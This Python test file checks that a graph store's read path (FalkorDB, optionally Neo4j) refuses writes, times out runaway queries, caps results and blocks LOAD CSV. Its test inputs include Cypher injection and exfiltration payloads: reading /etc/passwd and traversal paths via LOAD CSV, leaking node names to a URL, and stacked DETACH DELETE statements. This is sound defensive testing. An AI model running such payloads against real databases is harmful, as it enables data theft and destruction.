"""Read-only where promised: every form of write is refused by the engine itself.

Each statement below is sent as a read through :meth:`GraphStore.run` and
through `maillage cypher`; the embedded engine runs reads with
``GRAPH.RO_QUERY``, so a write is refused by FalkorDB, not by keyword
matching. After each attempt the graph, its indexes and its constraints are
unchanged. A runaway variable-length query stops within its timeout, the
engine's result-set cap holds, and values passed as parameters never become
Cypher. The same write statements are sent to Neo4j when
``MAILLAGE_TEST_NEO4J_URI`` is set (READ transaction plus the ``EXPLAIN``
query-type check).
"""

from __future__ import annotations

import os
import socket
import threading
import time

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.cli import main
from graph.errors import ParameterError, QueryError, QueryTimeout, ReadOnlyViolation

WRITES = [
    "CREATE (n:X) RETURN n",
    "create (:X)",
    "MERGE (n:X {id: 1}) RETURN n",
    "MATCH (n) SET n.x = 1 RETURN n",
    "MATCH (n) SET n += {x: 1}",
    "MATCH (n) SET n:Y",
    "MATCH (n) REMOVE n.name RETURN n",
    "MATCH (n) REMOVE n:Structure",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH ()-[r]->() DELETE r",
    "UNWIND range(1, 3) AS i CREATE (:X {i: i})",
    "WITH 1 AS x CREATE (:X)",
    "FOREACH (i IN [1] | CREATE (:X))",
    "CALL { CREATE (:X) } RETURN 1",
    "MATCH (n) CALL { WITH n DETACH DELETE n } RETURN 1",
    "MATCH (a:Structure), (b:Structure) CREATE (a)-[:COOPERATES_WITH]->(b)",
    "LOAD CSV FROM 'file:///etc/passwd' AS row CREATE (:X {line: row[0]})",
    "LOAD CSV WITH HEADERS FROM 'file://x.csv' AS row MERGE (:X {id: row.id})",
    "CALL db.idx.fulltext.createNodeIndex('Structure', 'name')",
    "CALL db.idx.fulltext.drop('Structure')",
    "CREATE INDEX FOR (n:X) ON (n.id)",
    "CREATE INDEX ON :X(id)",
    "CREATE FULLTEXT INDEX FOR (n:Structure) ON EACH [n.name]",
    "DROP INDEX ON :Structure(id)",
    "DROP INDEX FOR (n:Structure) ON (n.id)",
    "CREATE CONSTRAINT ON (n:X) ASSERT n.id IS UNIQUE",
    "MATCH (n) RETURN n; CREATE (m:X)",
    "MATCH (n) RETURN n; MATCH (m) DETACH DELETE m",
    "MATCH (n) RETURN n UNION CREATE (:X) RETURN 1",
    "/* read */ CREATE (:X)",
    "// read only\nCREATE (:X)",
    "EXPLAIN CREATE (:X)",
    "PROFILE CREATE (:X)",
]


def _state(store) -> tuple:
    """Everything a write could change: nodes with properties and labels, relationships, indexes, constraints."""
    nodes = store.run("MATCH (n) RETURN labels(n) AS l, properties(n) AS p ORDER BY n.id", max_rows=None)
    rels = store.run("MATCH (a)-[r]->(b) RETURN a.id AS a, type(r) AS t, properties(r) AS p, b.id AS b "
                     "ORDER BY a, t, b", max_rows=None)
    indexes = store.run("CALL db.indexes() YIELD label, properties, types RETURN label, properties, types "
                        "ORDER BY label", max_rows=None)
    constraints = store.run("CALL db.constraints() YIELD type, label, properties RETURN type, label, properties "
                            "ORDER BY label", max_rows=None)
    return tuple(df.to_json() for df in (nodes, rels, indexes, constraints))


@pytest.fixture
def small_graph(store):
    store.ensure_schema()
    store.run("CREATE (:Structure {id: 'structure:a', name: 'A'})-[:COOPERATES_WITH {key: ''}]->"
              "(:Structure {id: 'structure:b', name: 'B'})", write=True)
    return store


@pytest.mark.parametrize("statement", WRITES)
def test_store_reads_refuse_every_write(small_graph, statement):
    before = _state(small_graph)
    with pytest.raises(QueryError):  # ReadOnlyViolation, or the engine refuses the statement outright
        small_graph.run(statement)
    assert _state(small_graph) == before


def test_writes_are_refused_as_writes(small_graph):
    """Not just any error: the engine's read-only mode names the refusal (all but the unparsable forms)."""
    refused = []
    for statement in WRITES:
        try:
            small_graph.run(statement)
        except ReadOnlyViolation:
            refused.append(statement)
        except QueryError:
            pass
    assert len(refused) >= len(WRITES) - 8, sorted(set(WRITES) - set(refused))


@pytest.mark.parametrize("statement", WRITES)
def test_cypher_command_refuses_every_write(small_graph, statement):
    before = _state(small_graph)
    env = {"MAILLAGE_STORE": small_graph.url, "MAILLAGE_HOME": os.environ["MAILLAGE_HOME"]}
    result = CliRunner().invoke(main, ["cypher", statement], env=env)
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.output.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    assert _state(small_graph) == before


@pytest.mark.parametrize("name", ["upsert.node", "upsert.relation", "upsert.properties", "admin.delete_batch",
                                  "schema.index"])
def test_query_command_refuses_write_statements(small_graph, name):
    before = _state(small_graph)
    env = {"MAILLAGE_STORE": small_graph.url, "MAILLAGE_HOME": os.environ["MAILLAGE_HOME"]}
    result = CliRunner().invoke(main, ["query", name, "-p", "id=structure:a"], env=env)
    assert result.exit_code == 1
    assert result.output == f"Error: {name} is an internal statement; only read queries can be run here\n"
    assert _state(small_graph) == before


def test_load_csv_cannot_read_local_files(small_graph, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("password\nhunter2\n")
    for uri in (f"file://{secret}", f"file:///{secret}", "file:///etc/passwd", "file://../../../../etc/passwd"):
        with pytest.raises(QueryError):
            small_graph.run(f"LOAD CSV FROM '{uri}' AS row RETURN row")


class _Listener:
    """A local TCP listener that records connection attempts (nothing is sent back)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.halt = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.halt.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.halt.set()
        self.sock.close()


@pytest.mark.parametrize("via", ["store", "cli"])
def test_read_queries_cannot_reach_the_network(small_graph, via):
    listener = _Listener()
    try:
        statement = (f"MATCH (s:Structure) WITH collect(s.name) AS names "
                     f"LOAD CSV FROM 'https://127.0.0.1:{listener.port}/?leak=' + names[0] AS row RETURN row")
        if via == "store":
            with pytest.raises(QueryError):
                small_graph.run(statement, timeout=5)
        else:
            env = {"MAILLAGE_STORE": small_graph.url, "MAILLAGE_HOME": os.environ["MAILLAGE_HOME"]}
            result = CliRunner().invoke(main, ["cypher", statement, "--timeout", "5"], env=env)
            assert result.exit_code == 1
        time.sleep(0.3)
        assert listener.connections == 0, "the engine connected out"
    finally:
        listener.close()


@pytest.fixture
def tangled(store):
    """300 structures with ~2,000 random cooperation ties: enough paths to never finish enumerating."""
    store.run("UNWIND range(1, 300) AS i CREATE (:Structure {id: 'structure:' + toString(i)})", write=True)
    store.run("MATCH (a:Structure), (b:Structure) WHERE a.id < b.id AND rand() < 0.05 "
              "CREATE (a)-[:COOPERATES_WITH]->(b)", write=True)
    return store


RUNAWAY = "MATCH p=(a)-[*1..15]-(b) RETURN count(p) AS n"


def test_runaway_query_stops_within_its_timeout(tangled):
    t0 = time.monotonic()
    with pytest.raises(QueryTimeout, match="stopped after its time limit"):
        tangled.run(RUNAWAY, timeout=1.0)
    assert time.monotonic() - t0 < 3.0
    # the engine is free again at once
    assert tangled.run("MATCH (n) WHERE NOT n:GraphVersion RETURN count(n) AS n").iloc[0, 0] == 300


def test_runaway_query_stops_within_its_timeout_from_the_cli(tangled):
    env = {"MAILLAGE_STORE": tangled.url, "MAILLAGE_HOME": os.environ["MAILLAGE_HOME"]}
    t0 = time.monotonic()
    result = CliRunner().invoke(main, ["cypher", RUNAWAY, "--timeout", "1"], env=env)
    assert time.monotonic() - t0 < 3.5
    assert result.exit_code == 1 and result.output.startswith("Error: the query was stopped after its time limit")


def test_default_timeout_applies(tangled):
    tangled.timeout = 1.0  # the store's default when run() is given none
    t0 = time.monotonic()
    with pytest.raises(QueryTimeout):
        tangled.run(RUNAWAY)
    assert time.monotonic() - t0 < 3.0


def test_engine_caps_the_result_set(store):
    from graph.embedded import ENGINE_LIMITS

    cap = ENGINE_LIMITS["RESULTSET_SIZE"]
    # the engine itself cuts at its cap, silently
    raw = store.graph.query("UNWIND range(1, $n) AS i RETURN i", {"n": cap + 50_000})
    assert len(raw.result_set) == cap
    # the store turns that cut into an error for a caller that asked for every row
    with pytest.raises(QueryError, match="incomplete"):
        store.run("UNWIND range(1, $n) AS i RETURN i", {"n": cap + 50_000}, max_rows=None)
    df = store.run("UNWIND range(1, 500) AS i RETURN i", max_rows=100)
    assert len(df) == 100 and df.attrs["truncated"] is True


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60))
def test_parameter_values_never_become_cypher(store, value):
    assert store.run("RETURN $v AS v", {"v": value}).iloc[0, 0] == value
    store.run("CREATE (:Probe {v: $v})", {"v": value}, write=True)
    df = store.run("MATCH (p:Probe) RETURN p.v AS v, labels(p) AS l", max_rows=None)
    assert df["v"].tolist() == [value] and df["l"].tolist() == [["Probe"]]
    store.run("MATCH (p:Probe) DELETE p", write=True)


@pytest.mark.xfail(strict=True, raises=ParameterError,
                   reason="FalkorDB strings are NUL-terminated C strings and the client sends parameters as "
                          "query text (no escape reaches the engine as a NUL): a NUL cannot be stored, so the "
                          "store refuses it with a ParameterError (see the test below) instead of a round trip")
def test_parameter_with_a_nul_character(store):
    assert store.run("RETURN $v AS v", {"v": "a\x00b"}).iloc[0, 0] == "a\x00b"


def test_nul_character_is_refused_clearly_before_it_is_sent(store):
    """Not the engine's syntax error on a query cut short: the parameter is named, reads and writes alike."""
    with pytest.raises(ParameterError, match=r"parameter \$v holds a NUL character .* remove it from the value"):
        store.run("RETURN $v AS v", {"v": "a\x00b"})
    with pytest.raises(ParameterError, match=r"parameter \$rows\[1\]\.tags\[0\] holds a NUL character"):
        store.write_rows("UNWIND $rows AS row CREATE (:Probe {tags: row.tags})",
                         [{"tags": ["ok"]}, {"tags": ["a\x00b"]}])
    with pytest.raises(QueryError, match="the query text holds a NUL character"):
        store.run("RETURN 'a\x00b' AS v")
    assert store.run("MATCH (p:Probe) RETURN count(p) AS n").iloc[0, 0] == 0


@pytest.mark.parametrize("statement", [
    "LOAD CSV FROM $url AS row RETURN row",
    "load /* a comment */ csv with headers from 'https://example.org/x.csv' AS row RETURN row",
    "WITH 'a\\' AS x LOAD CSV FROM 'https://example.org/' AS row RETURN row // '",
    "CALL { LOAD CSV FROM 'https://example.org/' AS row RETURN row } RETURN row",
])
def test_load_csv_is_refused_before_it_is_sent(small_graph, statement):
    with pytest.raises(QueryError, match="LOAD CSV is refused"):
        small_graph.run(statement, {"url": "https://example.org/x.csv"})
    with pytest.raises(QueryError, match="LOAD CSV is refused"):
        small_graph.run(statement, {"url": "https://example.org/x.csv"}, write=True)
    with pytest.raises(QueryError, match="LOAD CSV is refused"):
        small_graph.write_rows(statement, [{"id": "x"}])


def test_engine_reads_no_import_folder(engine, small_graph):
    """Behind the store's refusal, the engine's own LOAD CSV file:// folder cannot exist."""
    from graph.embedded import ENGINE_SETTINGS

    conn = engine.client().connection
    assert dict([conn.execute_command("GRAPH.CONFIG", "GET", "IMPORT_FOLDER")]) == {
        "IMPORT_FOLDER": ENGINE_SETTINGS["IMPORT_FOLDER"]}
    assert not os.path.exists(ENGINE_SETTINGS["IMPORT_FOLDER"])


def test_load_csv_words_in_strings_and_names_are_not_refused(small_graph):
    df = small_graph.run("MATCH (s:Structure {id: 'structure:a'}) "
                         "RETURN 'load csv' AS `LOAD CSV`, s.name AS name // LOAD CSV")
    assert df.to_dict("records") == [{"LOAD CSV": "load csv", "name": "A"}]


# --- the same on Neo4j ---------------------------------------------------------------------------

NEO4J_URI = os.environ.get("MAILLAGE_TEST_NEO4J_URI")
NEO4J_WRITES = [w for w in WRITES if "db.idx" not in w and "ASSERT" not in w and "CREATE INDEX ON" not in w
                and "DROP INDEX ON" not in w]


@pytest.fixture
def neo():
    from graph.store import open_store

    s = open_store(NEO4J_URI)
    s.clear()
    s.run("CREATE (:Structure {id: 'structure:a', name: 'A'})-[:COOPERATES_WITH]->"
          "(:Structure {id: 'structure:b', name: 'B'})", write=True)
    yield s
    s.clear()
    s.close()


@pytest.mark.neo4j
@pytest.mark.skipif(not NEO4J_URI, reason="MAILLAGE_TEST_NEO4J_URI is not set: no Neo4j server to test against")
@pytest.mark.parametrize("statement", NEO4J_WRITES + [
    "CALL db.createLabel('X')", "CREATE DATABASE x", "CALL apoc.create.node(['X'], {}) YIELD node RETURN node",
])
def test_neo4j_reads_refuse_every_write(neo, statement):
    before = neo.run("MATCH (n) RETURN n.id AS id, labels(n) AS l, properties(n) AS p ORDER BY id").to_json()
    with pytest.raises(QueryError):
        neo.run(statement)
    assert neo.run("MATCH (n) RETURN n.id AS id, labels(n) AS l, properties(n) AS p ORDER BY id").to_json() == before


@pytest.mark.neo4j
@pytest.mark.skipif(not NEO4J_URI, reason="MAILLAGE_TEST_NEO4J_URI is not set: no Neo4j server to test against")
@pytest.mark.neo4j_semantics("the transaction timeout of the unit of work is ignored; the query runs on")
def test_neo4j_runaway_query_stops_within_its_timeout(neo):
    neo.run("UNWIND range(1, 300) AS i CREATE (:Structure {id: 'structure:' + toString(i)})", write=True)
    neo.run("MATCH (a:Structure), (b:Structure) WHERE a.id < b.id AND rand() < 0.05 "
            "CREATE (a)-[:COOPERATES_WITH]->(b)", write=True)
    t0 = time.monotonic()
    with pytest.raises(QueryTimeout):
        neo.run(RUNAWAY, timeout=1.0)
    assert time.monotonic() - t0 < 5.0
